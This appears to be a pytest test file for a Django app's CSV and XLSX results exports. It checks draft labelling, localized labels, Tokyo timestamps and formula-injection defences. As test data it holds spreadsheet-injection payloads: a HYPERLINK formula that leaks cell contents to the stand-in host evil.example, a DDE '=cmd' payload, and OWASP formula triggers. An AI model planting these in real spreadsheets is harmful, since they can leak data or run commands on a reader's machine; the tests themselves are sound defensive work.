"""Exports a reader can trust: submitted responses unless drafts are asked for (then labelled),
labels in the reader's language, Tokyo times with the offset, and no cell a spreadsheet would
run as a formula or openpyxl would refuse. Every file is read back with pandas and openpyxl."""

import datetime
import io

import pandas as pd
import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from assessments import services
from assessments.models import Answer, Department, Response, Target
from results.exports import safe_cell
from tests.assessments.conftest import answer_all

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
# OWASP's formula triggers, each at the start of a comment.
TRIGGERS = [HYPERLINK, "=1+2", "+1+2", "-1+2", "@SUM(A1)", "\t=1+2", "\r=1+2"]


@pytest.fixture
def answered(cast, django_user_model):
    """Threshold 1, so Sales is shown: its manager has submitted, and a second Sales manager,
    hino, is still answering (a draft). The Customer Success manager's draft is in a
    department with no submitted self-rating, withheld whoever asks (but its author)."""
    cast.campaign.anonymity_threshold = 1
    cast.campaign.save()
    answer_all(cast.response, cast.questions, 2)
    cast.colleague = django_user_model.objects.create_user("hino")
    cast.draft = services.add_respondent(
        campaign=cast.campaign,
        department=cast.sales,
        user=cast.colleague,
        rater_role=Response.RaterRole.MANAGER,
        notify=False,
    )
    answer_all(cast.draft, cast.questions, 0, submit=False)
    answer_all(cast.other_response, cast.questions, 1, submit=False)
    return cast


def export(client, cast, kind="answers", fmt="csv", *, user=None, language="ja", **query):
    client.force_login(user or cast.users.org_admin)
    url = reverse("results:export", args=[cast.campaign.pk, kind, fmt])
    reply = client.get(url, query, HTTP_ACCEPT_LANGUAGE=language)
    assert reply.status_code == 200, reply.content[:300]
    return reply


def frame(reply) -> pd.DataFrame:
    """The export read back with pandas, every cell as the text the file holds."""
    if reply["Content-Type"].startswith("text/csv"):
        return pd.read_csv(io.BytesIO(reply.content), encoding="utf-8-sig", dtype=str)
    return pd.read_excel(io.BytesIO(reply.content), dtype=str)


def sheet(reply):
    return load_workbook(io.BytesIO(reply.content)).active


def set_comment(response, text):
    """Store a comment as it may already be in the database (input checks bypassed)."""
    Answer.objects.filter(response=response).update(comment=text)


# ------------------------------------------------------------------ submitted, drafts


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_it_exports_submitted_responses_only_by_default(client, answered, fmt):
    rows = frame(export(client, answered, fmt=fmt))
    assert set(rows["回答者"]) == {"mori"}
    assert set(rows["状態"]) == {"提出済み"}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_it_adds_drafts_only_when_asked_and_labels_every_draft_row(client, answered, fmt):
    reply = export(client, answered, fmt=fmt, drafts="1")
    assert "with-drafts" in reply["Content-Disposition"]
    rows = frame(reply)
    drafts = rows[rows["回答者"] == "hino"]
    assert len(drafts) == 4  # every question applies to sales
    assert set(drafts["状態"]) == {"下書き（未提出）"}
    assert drafts["提出日時"].isna().all()
    assert set(rows[rows["回答者"] == "mori"]["状態"]) == {"提出済み"}
    # Customer Success has no submitted self-rating: its draft is withheld like its scores.
    assert set(rows["部門"]) == {"Sales"}


def test_any_other_value_of_the_option_gives_no_drafts(client, answered):
    rows = frame(export(client, answered, drafts="yes"))
    assert set(rows["状態"]) == {"提出済み"}


def test_a_manager_gets_their_own_draft_but_no_colleagues_draft(client, answered):
    mine = frame(export(client, answered, user=answered.users.other_manager, drafts="1"))
    assert set(mine["回答者"]) == {"あなた"} and set(mine["状態"]) == {"下書き（未提出）"}
    theirs = frame(export(client, answered, user=answered.users.manager, drafts="1"))
    assert set(theirs["回答者"]) == {"あなた"} and set(theirs["状態"]) == {"提出済み"}


# ------------------------------------------------------------------ language and time


def test_labels_are_in_japanese_without_raw_codes(client, answered):
    reply = export(client, answered, drafts="1")
    rows = frame(reply)
    assert set(rows["評価者の立場"]) == {"マネージャー（自己評価）"}
    assert set(rows["該当なし"]) <= {"はい", "いいえ"}
    text = reply.content.decode("utf-8-sig")
    for raw in ('"manager"', '"submitted"', '"in_progress"', '"True"', '"False"'):
        assert raw not in text


def test_labels_are_in_english_for_an_english_reader(client, answered):
    rows = frame(export(client, answered, fmt="xlsx", language="en", drafts="1"))
    assert {"department", "rater role", "status", "N/A"} <= set(rows.columns)
    assert set(rows["rater role"]) == {"Manager (self-assessment)"}
    assert set(rows["status"]) == {"Submitted", "Draft (not submitted)"}
    assert set(rows["N/A"]) <= {"Yes", "No"}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_times_are_tokyo_time_to_the_second_with_the_offset(client, answered, fmt):
    moment = datetime.datetime(2026, 12, 1, 17, 28, 32, 483778, tzinfo=datetime.UTC)
    Answer.objects.filter(response=answered.response).update(updated_at=moment)
    Response.objects.filter(pk=answered.response.pk).update(submitted_at=moment)
    rows = frame(export(client, answered, fmt=fmt))
    assert set(rows["保存日時"]) == {"2026-12-02 02:28:32+09:00"}
    assert set(rows["提出日時"]) == {"2026-12-02 02:28:32+09:00"}
    assert timezone.get_current_timezone_name() == "Asia/Tokyo"


# ------------------------------------------------------------------ formula injection


@pytest.mark.parametrize("text", TRIGGERS)
def test_a_formula_comment_comes_back_as_inert_text_from_the_csv(client, answered, text):
    set_comment(answered.response, text)
    rows = frame(export(client, answered))
    assert set(rows["コメント"]) == {"'" + text}


@pytest.mark.parametrize("text", TRIGGERS)
def test_a_formula_comment_is_a_text_cell_in_the_xlsx(client, answered, text):
    set_comment(answered.response, text)
    ws = sheet(export(client, answered, fmt="xlsx"))
    header = [cell.value for cell in ws[1]]
    column = header.index("コメント") + 1
    cells = [ws.cell(row=r, column=column) for r in range(2, ws.max_row + 1)]
    # XML keeps a carriage return as a line feed; the quote in front is what matters.
    assert {cell.value for cell in cells} == {"'" + text.replace("\r", "\n")}
    assert {cell.data_type for cell in cells} == {"s"}


def test_no_cell_of_any_export_is_a_formula(client, answered):
    Department.objects.filter(pk=answered.sales.pk).update(name="=cmd|'/c calc'!A1")
    set_comment(answered.response, HYPERLINK)
    for kind in ("answers", "scores"):
        ws = sheet(export(client, answered, kind=kind, fmt="xlsx"))
        cells = [cell for row in ws.iter_rows() for cell in row]
        assert all(cell.data_type != "f" for cell in cells), kind
        names = {ws.cell(row=r, column=1).value for r in range(2, ws.max_row + 1)}
        assert "'=cmd|'/c calc'!A1" in names, kind


def test_the_csv_quotes_every_field_so_no_separator_starts_a_cell(client, answered):
    set_comment(answered.response, "ok,=1+2;@SUM(A1)")
    reply = export(client, answered)
    assert '"ok,=1+2;@SUM(A1)"' in reply.content.decode("utf-8-sig")


def test_plain_text_and_numbers_are_left_as_they_are(client, answered):
    set_comment(answered.response, "解約率 -2% を目標に")
    rows = frame(export(client, answered))
    assert set(rows["コメント"]) == {"解約率 -2% を目標に"}
    assert set(rows["スコア"]) == {"5.0"}


# ------------------------------------------------------------------ characters XML cannot hold


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_control_character_in_a_stored_comment_gives_no_500_and_is_removed(client, answered, fmt):
    set_comment(answered.response, "before\u000bafter\x1f\x08")  # PostgreSQL stores no NUL
    rows = frame(export(client, answered, fmt=fmt))
    assert set(rows["コメント"]) == {"beforeafter"}


def test_a_control_character_cannot_hide_a_formula(client, answered):
    set_comment(answered.response, "\u000b=1+2")
    rows = frame(export(client, answered, fmt="xlsx"))
    assert set(rows["コメント"]) == {"'=1+2"}


def test_tabs_and_line_breaks_inside_a_comment_are_kept(client, answered):
    set_comment(answered.response, "一行目\n二行目\tおわり")
    rows = frame(export(client, answered, fmt="xlsx"))
    assert set(rows["コメント"]) == {"一行目\n二行目\tおわり"}


# ------------------------------------------------------------------ the scores export


def test_levels_in_the_scores_export_are_whole_numbers(client, answered):
    ws = sheet(export(client, answered, kind="scores", fmt="xlsx"))
    header = [cell.value for cell in ws[1]]
    rows = [[cell.value for cell in row] for row in ws.iter_rows(min_row=2)]
    levels = [row[header.index("レベル")] for row in rows if row[0] == "Sales"]
    assert levels == [5, 5] and all(isinstance(level, int) for level in levels)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_scores_export_carries_each_target_level_and_gap(client, cast, fmt):
    # Sales at the top of the scale (5.00: target 5, nothing left), Customer Success at 3.00
    # (default target 4), and a consultant's target of 5 for Customer Success' data.
    cast.campaign.anonymity_threshold = 1
    cast.campaign.save()
    answer_all(cast.response, cast.questions, 2)
    answer_all(cast.other_response, cast.questions, 1)
    Target.objects.create(
        department=cast.success, dimension_code="data", level=5, set_by=cast.users.consultant
    )
    table = frame(export(client, cast, kind="scores", fmt=fmt))
    rows = sorted(
        (department, code, int(target), float(gap))
        for department, code, target, gap in zip(
            table["部門"],
            table["評価軸コード"],
            table["目標レベル"],
            table["目標との差"],
            strict=True,
        )
    )
    assert rows == [
        ("Customer Success", "data", 5, 2.0),
        ("Customer Success", "kpi", 4, 1.0),
        ("Sales", "data", 5, 0.0),
        ("Sales", "kpi", 5, 0.0),
    ]


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("\x00=1+2", "'=1+2"),  # a NUL (refused by PostgreSQL, kept by SQLite) is removed too
        ("a\x0cb\x1bc", "abc"),
        ("'=1+2", "'=1+2"),  # already inert: left as it is
        ("", ""),
        (" =1+2", " =1+2"),
    ],
)
def test_safe_cell(text, cell):
    assert safe_cell(text) == cell
